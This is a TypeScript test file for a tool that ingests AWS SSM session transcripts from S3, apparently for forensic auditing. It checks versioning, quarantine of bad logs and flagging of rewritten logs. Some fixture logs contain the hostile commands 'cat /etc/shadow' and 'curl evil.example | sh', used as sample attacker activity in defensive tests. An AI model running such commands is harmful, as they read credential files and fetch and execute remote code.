import { createHash, randomBytes } from 'node:crypto';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { SPILL_BYTES } from '../../../src/ingest/normalize/transcript-evidence.ts';
import { createTranscriptsS3Source } from '../../../src/ingest/sources/transcripts-s3.ts';
import { type S3Fake, startS3 } from '../../fakes/s3.ts';
import { startVersionedS3, type VersionedS3Fake } from '../../fakes/s3-versioned.ts';
import { allSessions, allTranscripts, quarantineRows, transcriptBytes } from '../../support/store-view.ts';
import { type Harness, openHarness } from '../transcript-harness.ts';
import { POWERSHELL, scriptLog, shellBody, TARGET } from '../transcript-samples.ts';

const BUCKET = 'session-logs';
let s3: S3Fake;
let h: Harness;
let prefix = '';
let testNo = 0;

beforeAll(async () => {
  s3 = await startS3({ buckets: [BUCKET] });
});
afterAll(async () => {
  await s3.close();
});
beforeEach(async () => {
  h = await openHarness();
  prefix = `t${++testNo}/`; // the bucket is shared: each test lists its own prefix
});
afterEach(() => h.close());

function source() {
  return createTranscriptsS3Source(
    {
      bucket: BUCKET,
      prefix: `${prefix}ssm/`,
      forcePathStyle: true,
      endpoint: s3.endpoint,
      region: 'us-east-1',
    },
    { client: s3.client },
  );
}

const stored = (transcriptId: string) => transcriptBytes(h.store, transcriptId);

/** The findings' codes, sorted. */
async function findingCodes(): Promise<string[]> {
  return (await h.store.findings.list({}, { limit: 5000 })).items.map((f) => f.code).sort();
}

describe('transcripts-s3 source', () => {
  it('imports session logs under nested prefixes, byte-exact, as unverified sessions queued for extraction', async () => {
    const a = scriptLog('alice-0a1b2c3d4e5f67890', shellBody(['whoami', 'ls -la']));
    const b = scriptLog('bob-01h2xvz8k3q4r5s6t7u8v9w0ab', shellBody(['uptime']), 'i-0fffeeeddd0000111');
    await s3.put(BUCKET, `${prefix}ssm/alice-0a1b2c3d4e5f67890.log`, a);
    await s3.put(BUCKET, `${prefix}ssm/2025/09/29/bob-01h2xvz8k3q4r5s6t7u8v9w0ab.log`, b);
    await s3.put(BUCKET, `${prefix}ssm/README.txt`, 'not a session log');
    await s3.put(BUCKET, `${prefix}other/carol-000.log`, scriptLog('carol-000', 'ls\n'));
    const report = await h.poll(source());
    expect(report.failures).toEqual([]);
    const sessions = (await allSessions(h.store))
      .map(({ sessionId, target, identityVerified, transcriptSources }) => ({
        sessionId,
        target,
        identityVerified,
        transcriptSources,
      }))
      .sort((x, y) => (x.sessionId < y.sessionId ? -1 : 1));
    expect(sessions).toEqual([
      {
        sessionId: 'alice-0a1b2c3d4e5f67890',
        target: TARGET,
        identityVerified: false,
        transcriptSources: ['s3'],
      },
      {
        sessionId: 'bob-01h2xvz8k3q4r5s6t7u8v9w0ab',
        target: 'i-0fffeeeddd0000111',
        identityVerified: false,
        transcriptSources: ['s3'],
      },
    ]);
    const [t] = await h.store.transcripts.list('alice-0a1b2c3d4e5f67890');
    expect(t!.transcriptId).toMatch(
      /^s3:\/\/session-logs\/t\d+\/ssm\/alice-0a1b2c3d4e5f67890\.log#[0-9a-f]{32}$/,
    );
    expect(t!.sha256).toBe(createHash('sha256').update(a).digest('hex'));
    expect((await stored(t!.transcriptId)).equals(a)).toBe(true);
    expect(await h.store.extractQueue.size()).toBe(2);
  });

  it('never reads the same version twice, keeps a rewritten object as a second version and flags it', async () => {
    const key = `${prefix}ssm/mallory-0123456789abcdef0.log`;
    await s3.put(BUCKET, key, scriptLog('mallory-0123456789abcdef0', shellBody(['cat /etc/shadow'])));
    await h.poll(source());
    const again = await h.poll(source());
    expect(again.counters.itemsRead).toBe(0);
    await s3.put(BUCKET, key, scriptLog('mallory-0123456789abcdef0', shellBody(['ls'])));
    const third = await h.poll(source());
    expect(third.counters.itemsRead).toBe(1);
    const versions = await h.store.transcripts.list('mallory-0123456789abcdef0');
    expect(versions).toHaveLength(2);
    expect(new Set(versions.map((v) => v.sha256)).size).toBe(2);
    // Only verified sessions get integrity findings; confirm the session through CloudTrail.
    await h.write({
      sourceId: 'test',
      ctEvents: [startSession('mallory-0123456789abcdef0', 'i-0000000000000000a')],
    });
    const codes = await findingCodes();
    expect(codes).toContain(`object_changed:${BUCKET}/${key}`);
    expect(codes.filter((c) => c.startsWith('target_mismatch:'))).toHaveLength(2);
  });

  it('stores zero-byte and PowerShell objects, quarantines a log that names no session, loses no neighbour', async () => {
    await s3.put(BUCKET, `${prefix}ssm/empty-0000000000000000a.log`, new Uint8Array());
    await s3.put(BUCKET, `${prefix}ssm/win-0000000000000000b.log`, POWERSHELL);
    await s3.put(BUCKET, `${prefix}ssm/bad name with spaces.log`, 'no header here');
    await s3.put(
      BUCKET,
      `${prefix}ssm/zed-0000000000000000c.log`,
      scriptLog('zed-0000000000000000c', 'ls\n'),
    );
    const report = await h.poll(source());
    expect(report.failures).toEqual([]);
    const formats = (await allTranscripts(h.store)).map(({ sessionId, format }) => ({ sessionId, format }));
    expect(formats).toEqual([
      { sessionId: 'empty-0000000000000000a', format: 'empty' },
      { sessionId: 'win-0000000000000000b', format: 'powershell' },
      { sessionId: 'zed-0000000000000000c', format: 'script' },
    ]);
    expect((await quarantineRows(h.store)).map(({ itemKey, reason }) => ({ itemKey, reason }))).toEqual([
      { itemKey: `${prefix}ssm/bad name with spaces.log`, reason: 'no_session_id' },
    ]);
    expect((await h.poll(source())).counters.itemsRead).toBe(0);
  });

  it('streams an object larger than the memory budget through several batches', async () => {
    const big = Buffer.concat([
      scriptLog('big-0000000000000000d', '').subarray(0, 220),
      randomBytes(SPILL_BYTES + (6 << 20)),
    ]);
    await s3.put(BUCKET, `${prefix}ssm/big-0000000000000000d.log`, big);
    await h.poll(source());
    const [t] = await h.store.transcripts.list('big-0000000000000000d');
    expect(t!.byteSize).toBe(big.length);
    expect(t!.sha256).toBe(createHash('sha256').update(big).digest('hex'));
    expect((await stored(t!.transcriptId)).equals(big)).toBe(true);
  });
});

function startSession(sessionId: string, target: string) {
  return {
    eventId: `ev-${sessionId}`,
    eventName: 'StartSession',
    eventTime: Date.parse('2025-09-29T16:50:00Z'),
    sessionId,
    accountId: '111122223333',
    region: 'ap-northeast-1',
    target,
    documentName: null,
    parameters: null,
    reason: null,
    principalArn: 'arn:aws:sts::111122223333:assumed-role/OpsRole/mallory',
    principalType: 'AssumedRole',
    actor: 'mallory',
    sourceIp: '198.51.100.7',
    userAgent: 'aws-cli',
    errorCode: null,
    errorMessage: null,
    origin: 'test',
    raw: '{}',
  };
}

describe('transcripts-s3 source on a versioned bucket', () => {
  let v: VersionedS3Fake;
  beforeEach(async () => {
    v = await startVersionedS3({ bucket: 'versioned-logs', maxKeys: 2 }); // small pages: a key's versions span pages
  });
  afterEach(() => v.close());

  const versionedSource = () =>
    createTranscriptsS3Source(
      { bucket: 'versioned-logs', prefix: 'ssm/', forcePathStyle: true, versioned: true },
      { client: v.client },
    );

  it('stores every version, even one overwritten between two polls, and flags the change', async () => {
    const mallory = 'mallory-0123456789abcdef0';
    const key = `ssm/${mallory}.log`;
    v.put(`ssm/alice-0a1b2c3d4e5f67890.log`, scriptLog('alice-0a1b2c3d4e5f67890', shellBody(['id'])));
    const first = v.put(key, scriptLog(mallory, shellBody(['cat /etc/shadow'])));
    expect((await h.poll(versionedSource())).failures).toEqual([]);
    const middle = v.put(key, scriptLog(mallory, shellBody(['curl evil.example | sh'])));
    const last = v.put(key, scriptLog(mallory, shellBody(['ls'])));
    v.put('ssm/README.txt', 'not a session log');
    v.remove('ssm/alice-0a1b2c3d4e5f67890.log');
    const second = await h.poll(versionedSource());
    expect(second.failures).toEqual([]);
    expect(second.counters.itemsRead).toBe(2);
    const versions = await h.store.transcripts.list(mallory);
    expect(versions.map((t) => t.transcriptId.split('#')[1]).sort()).toEqual([first, middle, last].sort());
    expect(new Set(versions.map((t) => t.sha256)).size).toBe(3);
    const reads = v.calls.filter((c) => c.operation === 'GetObject');
    for (const id of [first, middle, last]) expect(reads.map((c) => c.query.versionId)).toContain(id);
    expect(v.calls.some((c) => c.operation === 'ListObjectsV2')).toBe(false);
    expect(v.calls.filter((c) => c.operation === 'ListObjectVersions').length).toBeGreaterThan(2);
    expect((await h.poll(versionedSource())).counters.itemsRead).toBe(0);
    await h.write({ sourceId: 'test', ctEvents: [startSession(mallory, 'i-0000000000000000a')] });
    const codes = await findingCodes();
    expect(codes).toContain(`object_changed:versioned-logs/${key}`);
  });

  it('resumes a walk after the last key it finished, so no version of a key split across pages is lost', async () => {
    const sid = (i: number) => `user${i}-000000000000000${i}`;
    for (let i = 0; i < 3; i++) v.put(`ssm/${sid(i)}.log`, scriptLog(sid(i), shellBody([`echo ${i}`])));
    for (let i = 0; i < 3; i++) v.put(`ssm/${sid(1)}.log`, scriptLog(sid(1), shellBody([`echo again ${i}`])));
    const src = versionedSource();
    // A walk killed after the first key: its checkpoint names the last key handled in full.
    await h.write({ sourceId: src.id, checkpoint: { after: `ssm/${sid(0)}.log` } });
    await h.poll(src);
    expect(v.calls.find((c) => c.operation === 'ListObjectVersions')!.query['key-marker']).toBe(
      `ssm/${sid(0)}.log`,
    );
    expect(await h.store.transcripts.list(sid(1))).toHaveLength(4);
    expect(await h.store.transcripts.list(sid(0))).toHaveLength(0);
    await h.poll(src); // the finished walk starts over from the beginning
    expect(await h.store.transcripts.list(sid(0))).toHaveLength(1);
    expect(await h.store.evidence.readCheckpoint(src.id)).toEqual({ after: null });
  });
});
